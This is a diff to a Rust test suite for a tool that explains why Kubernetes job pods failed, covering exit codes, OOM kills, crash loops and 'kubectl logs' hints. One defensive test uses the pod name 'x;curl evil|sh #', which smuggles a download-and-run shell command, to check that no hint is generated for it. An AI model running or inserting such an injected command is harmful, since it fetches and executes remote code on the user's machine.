@@ -16,7 +16,7 @@ fn exit_codes_mean_what_shells_and_kernels_mean_by_them() {
         (137, "Error", "killed", "possibly out of memory"),
         (137, "OOMKilled", "oom-killed", "killed for memory"),
         (1, "OOMKilled", "oom-killed", "killed for memory"),
-        (143, "Error", "asked-to-stop", "SIGTERM"),
+        (143, "Error", "container-failed", "exited 143 (SIGTERM)"),
         (128, "StartError", "start-error", "(run)"),
         (128, "ContainerCannotRun", "start-error", "could not be started"),
     ];
@@ -50,6 +50,30 @@ fn a_kill_after_a_deletion_is_a_consequence() {
     let report = World::new().pod("x-1", &patch).report();
     report.assert_finds("killed-after-stop", &["terminationGracePeriodSeconds"]);
     report.assert_silent("killed");
+    patch["status"]["containerStatuses"][0]["state"]["terminated"]["exitCode"] = 143.into();
+    let asked = World::new().pod("x-1", &patch).report();
+    asked.assert_finds("asked-to-stop", &["SIGTERM", "was deleted"]);
+}
+
+#[test]
+fn an_end_that_nobody_saw_is_no_kill() {
+    let report = World::new()
+        .failed_pod("x-1", 137, "ContainerStatusUnknown")
+        .report();
+    report.assert_finds("container-lost", &["ended unseen", "exit code is unknown"]);
+    report.assert_silent("killed");
+}
+
+#[test]
+fn a_container_that_the_kubelet_restarts_with_its_pod_failed_nothing() {
+    let with = |reason: &str| {
+        let end = json!({"exitCode": 137, "reason": reason});
+        let patch = json!({"status": {"phase": "Running", "containerStatuses": [{"name": "main", "restartCount": 1, "state": {"terminated": end}}]}});
+        let restarted = World::new().with("/spec/template/spec/restartPolicy", "OnFailure".into());
+        restarted.pod("x-1", &patch).report()
+    };
+    assert_eq!(with("RestartingAllContainers").0["findings"], json!([]));
+    with("Error").assert_finds("crash-loop", &["main"]);
 }
 
 #[test]
@@ -69,6 +93,92 @@ fn the_memory_limit_is_named_or_its_absence() {
             "oom-killed",
             &["no limit of its own", "the node ran out of memory"],
         );
+    let of_pod = World::new()
+        .failed_pod("x-1", 137, "OOMKilled")
+        .with(
+            "/spec/template/spec/resources",
+            json!({"limits": {"memory": "96Mi"}}),
+        )
+        .report();
+    of_pod.assert_finds("oom-killed", &["limit 96Mi of the pod", "above 96Mi"]);
+}
+
+#[test]
+fn every_container_that_failed_by_itself_is_told_of() {
+    let pod = |second: (i32, &str)| {
+        let end = |code: i32, reason: &str, at: &str| json!({"terminated": {"exitCode": code, "reason": reason, "finishedAt": at}});
+        let patch = json!({"spec": {"containers": [{"name": "main"}, {"name": "log"}]}, "status": {"phase": "Failed", "containerStatuses": [
+            {"name": "log", "state": end(1, "Error", "2026-11-24T11:10:00Z")},
+            {"name": "main", "state": end(second.0, second.1, "2026-11-24T11:20:00Z")}]}});
+        World::new()
+            .pod("x-1", &patch)
+            .condition("Failed", "BackoffLimitExceeded", "m")
+            .with("/status/failed", 1.into())
+            .report()
+    };
+    let report = pod((137, "OOMKilled"));
+    report.assert_finds("oom-killed", &["\"main\""]);
+    report.assert_finds("container-failed", &["\"log\" exited 1"]);
+    assert!(
+        report
+            .message()
+            .starts_with("1 attempt; \"main\" was killed for memory"),
+        "{}",
+        report.message()
+    );
+    assert_eq!(report.0["pods"][0]["reason"], "OOMKilled");
+    let earliest = pod((2, "Error"));
+    assert!(
+        earliest.message().starts_with("1 attempt; \"log\" exited 1"),
+        "{}",
+        earliest.message()
+    );
+}
+
+#[test]
+fn a_failure_is_told_in_its_own_words_only() {
+    let ended = |code: i32, minute: i32| {
+        let mut patch = failed(code, "Error");
+        patch["status"]["containerStatuses"][0]["state"]["terminated"]["finishedAt"] =
+            format!("2026-11-24T11:{minute}:00Z").into();
+        patch
+    };
+    let report = World::new()
+        .pod("x-1", &ended(1, 11))
+        .pod("x-2", &ended(2, 12))
+        .pod("x-3", &ended(3, 13))
+        .pod("x-4", &ended(4, 14))
+        .log("x-1", "main", "words of 1")
+        .log("x-2", "main", "words of 2")
+        .log("x-3", "main", "words of 3")
+        .log("x-4", "main", "words of 4")
+        .report();
+    let findings = report.0["findings"].as_array().unwrap();
+    let of = |code: &str| {
+        let mut texts = findings
+            .iter()
+            .map(|finding| format!("{} {}", finding["message"], finding["hint"]));
+        texts
+            .find(|text| text.contains(&format!("exited {code}")))
+            .unwrap()
+    };
+    assert!(of("4").contains("words of 4"), "{}", of("4"));
+    assert!(
+        !of("1").contains("words of"),
+        "only three logs are read: {}",
+        of("1")
+    );
+    assert!(of("1").contains("kubectl logs x-1 -c main -n zoo"), "{}", of("1"));
+}
+
+#[test]
+fn no_hint_is_a_trap_to_paste() {
+    let report = World::new().failed_pod("x;curl evil|sh #", 1, "Error").report();
+    assert_eq!(report.finding("container-failed").unwrap().get("hint"), None);
+    World::new()
+        .failed_pod("x-1.y", 1, "Error")
+        .report()
+        .assert_finds("container-failed", &["kubectl logs x-1.y -c main -n zoo"]);
 }
 
 #[test]
@@ -98,13 +208,16 @@ fn equal_failures_are_one_finding_and_different_ones_several() {
 fn an_init_container_is_to_blame_for_what_never_started() {
     let patch = json!({
         "spec": {"initContainers": [{"name": "fetch", "image": "i"}]},
-        "status": {"phase": "Failed", "initContainerStatuses": [{"name": "fetch", "state": {"terminated": {"exitCode": 5, "reason": "Error", "finishedAt": "2026-11-24T11:10:00Z"}}}],
+        "status": {"phase": "Failed", "initContainerStatuses": [{"name": "fetch", "state": {"terminated": {"exitCode": 5, "reason": "Error", "message": "cannot resolve bucket", "finishedAt": "2026-11-24T11:10:00Z"}}}],
             "containerStatuses": [{"name": "main", "state": {"waiting": {"reason": "PodInitializing"}}}]},
     });
     let report = World::new().pod("x-1", &patch).report();
     report.assert_finds(
         "container-failed",
-        &["init container \"fetch\" exited 5", "\"main\" never started"],
+        &[
+            "init container \"fetch\" exited 5",
+            ": \"cannot resolve bucket\"; \"main\" never started",
+        ],
     );
 }
 
@@ -122,42 +235,4 @@ fn a_sidecar_that_is_stopped_with_its_pod_failed_nothing() {
         .report();
     assert_eq!(report.state(), "Complete");
     assert_eq!(report.0["findings"], json!([]));
-}
-
-#[test]
-fn pods_that_were_ended_from_outside_say_by_what() {
-    let disrupted = |reason: &str| {
-        let mut patch = failed(137, "Error");
-        patch["status"]["conditions"] = json!([{"type": "DisruptionTarget", "status": "True", "reason": reason, "message": "words of the cluster"}]);
-        World::new().pod("x-1", &patch).report()
-    };
-    for (reason, rule) in [
-        ("PreemptionByScheduler", "preempted"),
-        ("EvictionByEvictionAPI", "evicted"),
-        ("DeletionByTaintManager", "evicted"),
-        ("TerminationByKubelet", "evicted"),
-        ("DeletionByPodGC", "node-lost"),
-        ("SomethingNew", "disrupted"),
-    ] {
-        disrupted(reason).assert_finds(
-            rule,
-            &[reason, "x-1", "n1", "words of the cluster", "podFailurePolicy"],
-        );
-    }
-    for (reason, rule) in [
-        ("Evicted", "evicted"),
-        ("NodeLost", "node-lost"),
-        ("NodeShutdown", "node-shutdown"),
-        ("Preempting", "preempted"),
-    ] {
-        let patch = json!({"status": {"phase": "Failed", "reason": reason, "message": "The node was low on resource: memory."}});
-        World::new()
-            .pod("x-1", &patch)
-            .report()
-            .assert_finds(rule, &[reason, "low on resource"]);
-    }
-    let mut spared = failed(1, "Error");
-    spared["status"]["conditions"] =
-        json!([{"type": "DisruptionTarget", "status": "False", "reason": "EvictionByEvictionAPI"}]);
-    World::new().pod("x-1", &spared).report().assert_silent("evicted");
 }
